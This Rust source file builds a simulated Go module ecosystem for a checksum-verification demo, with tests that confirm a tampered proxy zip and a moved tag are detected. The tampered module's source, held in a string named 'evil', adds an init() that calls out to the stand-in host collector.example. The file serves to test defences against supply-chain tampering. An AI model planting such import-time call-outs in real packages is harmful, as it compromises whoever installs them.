//! The world of `gosum demo`: eight modules of all kinds, one of which is tampered at the proxy and one tag moved.

use std::collections::BTreeMap;
use std::io;

use gosum_mod::name::id::{Artifact, ModuleVersion};

use crate::draft::{Draft, Revision};
use crate::page::Page;
use crate::release::Release;
use crate::repository::Files;
use crate::sumdb::SumDb;
use crate::world::World;

/// Where the proxy is.
const PROXY: &str = "proxy.example";

/// What the checksum database is called.
const DATABASE: &str = "sum.example";

const LICENSE: &str = "Everybody may do with this what they like.\n";

/// A world, a project that depends on its modules, and what is wrong with them.
#[derive(Debug)]
pub struct Demo {
    /// The world.
    pub world: World,
    /// The URL of its module proxy.
    pub proxy: String,
    /// The key of its checksum database, which the proxy gives access to: it has recorded what was published first.
    pub gosumdb: String,
    /// The go.mod of the project.
    pub go_mod: String,
    /// The go.sum of the project, from before anything went wrong.
    pub go_sum: String,
    /// The module version whose zip at the proxy is not what the repository holds.
    pub tampered: ModuleVersion,
    /// The module version whose tag was moved after the proxy had published it.
    pub moved: ModuleVersion,
    /// The tag of it.
    pub moved_tag: String,
}

/// Starts the world.
///
/// # Errors
/// When there is no port or thread to be had.
pub fn world() -> io::Result<Demo> {
    let mut author = Author { draft: Draft::new(PROXY), project: Vec::new() };
    let [older, newer] = author.plain_tags();
    author.subdirectory();
    author.major_in_directory();
    let (on_branch, moved) = author.major_on_branch();
    author.incompatible();
    author.vanity_host();
    author.old_protocol();
    author.never_tagged();

    let (go_mod, go_sum) = (go_mod(&author.project), go_sum(&author.project, &older));
    let Author { mut draft, project } = author;
    let mut database = SumDb::new(DATABASE, 1);
    project.iter().chain([&older]).for_each(|release| database.record(release));
    let gosumdb = database.key();
    draft.sites.add_sumdb(&format!("{PROXY}/sumdb/{DATABASE}"), database);

    let evil = "package colors\n\nimport \"net/http\"\n\n// Red is a colour.\nconst Red = 0xff0000\n\n\
                func init() { http.Get(\"http://collector.example/\") }\n";
    draft.proxy().publish(&newer.clone().tampered("colors.go", evil));

    let files = moved
        .files
        .clone()
        .file("cache.go", "package cache\n\n// Size is larger than it was.\nconst Size = 2048\n");
    let later = draft.commit(&moved.address, "v3", &files);
    draft.tag("v3.0.1", &later);

    Ok(Demo {
        world: draft.start()?,
        proxy: format!("http://{PROXY}"),
        gosumdb,
        go_mod,
        go_sum,
        tampered: newer.module().clone(),
        moved: on_branch.module().clone(),
        moved_tag: "v3.0.1".to_owned(),
    })
}

/// Writes the modules, and depends on them.
struct Author {
    draft: Draft,
    /// What the project depends on.
    project: Vec<Release>,
}

impl Author {
    fn plain_tags(&mut self) -> [Release; 2] {
        let address = "github.com/example/colors";
        let files = module(address).file("colors.go", "package colors\n");
        let first = self.draft.commit(address, "main", &files);
        self.draft.tag("v1.0.0", &first);
        let files = files.file("colors.go", "package colors\n\n// Red is a colour.\nconst Red = 0xff0000\n");
        let second = self.draft.commit(address, "main", &files);
        self.draft.tag("v1.1.0", &second);
        let older = self.publish("github.com/example/colors@v1.0.0", &first, "");
        let newer = self.publish("github.com/example/colors@v1.1.0", &second, "");
        self.project.push(newer.clone());
        [older, newer]
    }

    /// A module below the root, which has no licence of its own and so gets that of the root.
    fn subdirectory(&mut self) {
        let files = module("github.com/example/tools")
            .file("tools.go", "package tools\n")
            .file("lint/go.mod", "module github.com/example/tools/lint\n\ngo 1.20\n")
            .file("lint/lint.go", "package lint\n");
        let commit = self.draft.commit("github.com/example/tools", "main", &files);
        self.draft.tag("lint/v0.3.0", &commit);
        self.require("github.com/example/tools/lint@v0.3.0", &commit, "lint");
    }

    fn major_in_directory(&mut self) {
        let files = module("github.com/example/queue")
            .file("queue.go", "package queue\n")
            .file("v2/go.mod", "module github.com/example/queue/v2\n\ngo 1.20\n")
            .file("v2/queue.go", "package queue // better\n");
        let commit = self.draft.commit("github.com/example/queue", "main", &files);
        self.draft.tag("v2.1.0", &commit);
        self.require("github.com/example/queue/v2@v2.1.0", &commit, "v2");
    }

    fn major_on_branch(&mut self) -> (Release, Revision) {
        let address = "github.com/example/cache";
        let files = module(address).file("cache.go", "package cache\n");
        self.draft.commit(address, "main", &files);
        let files = module("github.com/example/cache/v3")
            .file("cache.go", "package cache\n\n// Size is how much there is room for.\nconst Size = 1024\n");
        let commit = self.draft.commit(address, "v3", &files);
        self.draft.tag("v3.0.1", &commit);
        (self.require("github.com/example/cache/v3@v3.0.1", &commit, ""), commit)
    }

    /// A module from before there were any: no go.mod, and a major version that its path does not show.
    fn incompatible(&mut self) {
        let files = Files::new()
            .file("LICENSE", LICENSE)
            .file("legacy.go", "package legacy\n")
            .file("vendor/example.com/old/old.go", "package old\n")
            .executable("configure", "#!/bin/sh\n")
            .symlink("README", "legacy.go");
        let commit = self.draft.commit("github.com/example/legacy", "main", &files);
        self.draft.tag("v2.0.0", &commit);
        self.require("github.com/example/legacy@v2.0.0+incompatible", &commit, "");
    }

    /// A module whose host tells where it really is, with an annotated tag and another module inside.
    fn vanity_host(&mut self) {
        let (path, address) = ("go.example.org/text", "github.com/example/go-text");
        self.draft.sites.add_page(path, Page::go_import(path, "git", &format!("https://{address}")));
        let requires = "\nrequire github.com/example/colors v1.0.0\n";
        let files = module(path)
            .file("go.mod", format!("module {path}\n\ngo 1.16\n{requires}"))
            .file("text.go", "package text\n\nimport _ \"github.com/example/colors\"\n")
            .file("internal/gen/go.mod", "module go.example.org/text/internal/gen\n")
            .file("internal/gen/main.go", "package main\n\nfunc main() {}\n");
        let commit = self.draft.commit(address, "main", &files);
        self.draft.annotated_tag("v1.0.1", &commit);
        self.require("go.example.org/text@v1.0.1", &commit, "");
    }

    /// A host that speaks the old version of git's protocol only.
    fn old_protocol(&mut self) {
        let path = "gopkg.in/example/palette.v1";
        self.draft.sites.add_page(path, Page::go_import(path, "git", &format!("https://{path}")));
        let files = module(path).file("palette.go", "package palette\n");
        let commit = self.draft.commit(path, "main", &files);
        self.draft.repository(path).policy.before_v2 = true;
        self.draft.tag("v1.4.2", &commit);
        self.require("gopkg.in/example/palette.v1@v1.4.2", &commit, "");
    }

    fn never_tagged(&mut self) {
        let address = "github.com/example/nightly";
        let files = module(address).file("nightly.go", "package nightly\n");
        let commit = self.draft.commit(address, "main", &files);
        self.draft.commit(address, "main", &files.file("later.go", "package nightly\n"));
        self.require(&format!("{address}@{}", commit.pseudo_version()), &commit, "");
    }

    fn require(&mut self, module: &str, revision: &Revision, directory: &str) -> Release {
        let release = self.publish(module, revision, directory);
        self.project.push(release.clone());
        release
    }

    fn publish(&mut self, module: &str, revision: &Revision, directory: &str) -> Release {
        self.draft.publish(module, revision, directory).expect("the demo's modules are valid")
    }
}

/// Returns what every module has.
fn module(path: &str) -> Files {
    Files::new().file("LICENSE", LICENSE).file("go.mod", format!("module {path}\n\ngo 1.20\n"))
}

fn go_mod(project: &[Release]) -> String {
    let mut modules: Vec<&ModuleVersion> = project.iter().map(Release::module).collect();
    modules.sort();
    let requires: String =
        modules.iter().map(|module| format!("\t{} {}\n", module.path(), module.version())).collect();
    format!("module example.com/project\n\ngo 1.20\n\nrequire (\n{requires})\n")
}

/// Returns the lines for all that the project depends on, and for the go.mod of `older`, which another module asks for.
fn go_sum(project: &[Release], older: &Release) -> String {
    let mut lines = BTreeMap::new();
    lines.insert((older.module(), Artifact::GoMod), older.sum(Artifact::GoMod));
    for release in project {
        for artifact in [Artifact::Zip, Artifact::GoMod] {
            lines.insert((release.module(), artifact), release.sum(artifact));
        }
    }
    lines.into_values().collect()
}

#[cfg(test)]
mod tests {
    use gosum_mod::file::go_sum::GoSum;
    use gosum_mod::hash::dirhash::go_mod_h1;
    use gosum_mod::zip::archive::Archive;
    use gosum_mod::zip::hash::zip_h1;

    use super::*;
    use crate::proxy::Endpoint;

    /// Returns what the proxy has.
    fn get(demo: &Demo, endpoint: Endpoint, module: &ModuleVersion) -> Vec<u8> {
        let path = endpoint.path(module);
        demo.world.change(|sites| sites.proxy(PROXY).unwrap().get(&path).unwrap().to_vec())
    }

    #[test]
    fn one_zip_at_the_proxy_is_not_what_the_sums_say() {
        let demo = world().unwrap();
        let sums = GoSum::parse(demo.go_sum.as_bytes());
        assert!(sums.malformed.is_empty());
        let mut wrong = Vec::new();
        for line in &sums.lines {
            let (module, artifact) = line.key().unwrap();
            let hash = match artifact {
                Artifact::Zip => zip_h1(&Archive::open(get(&demo, Endpoint::Zip, &module)).unwrap()).unwrap(),
                Artifact::GoMod => go_mod_h1(&get(&demo, Endpoint::Mod, &module)),
            };
            if hash.to_string().as_bytes() != line.hash() {
                wrong.push((module, artifact));
            }
        }
        assert_eq!(sums.lines.len(), 17);
        assert_eq!(wrong, [(demo.tampered, Artifact::Zip)]);
    }

    #[test]
    fn one_tag_is_not_where_the_proxy_found_it() {
        let demo = world().unwrap();
        let info = get(&demo, Endpoint::Info, &demo.moved);
        let info: serde_json::Value = serde_json::from_slice(&info).unwrap();
        let tag = format!("refs/tags/{}", demo.moved_tag);
        let address = info["Origin"]["URL"].as_str().unwrap().strip_prefix("https://").unwrap().to_owned();
        let commit = demo.world.change(|sites| sites.repository(&address).unwrap().reference(&tag).unwrap());
        assert_eq!(info["Origin"]["Ref"], tag);
        assert_ne!(info["Origin"]["Hash"], commit.to_string());
    }

    #[test]
    fn project_depends_on_all_modules() {
        let demo = world().unwrap();
        let required = demo.go_mod.lines().filter_map(|line| line.strip_prefix('\t'));
        let modules: Vec<String> = required.map(|line| line.replace(' ', "@")).collect();
        assert_eq!(modules.len(), 8);
        for module in &modules {
            assert!(demo.go_sum.contains(&format!("{} h1:", module.replace('@', " "))), "{module}");
        }
        let names: Vec<String> = demo.world.routes().into_keys().collect();
        assert_eq!(names, ["github.com", "go.example.org", "gopkg.in", PROXY]);
    }
}
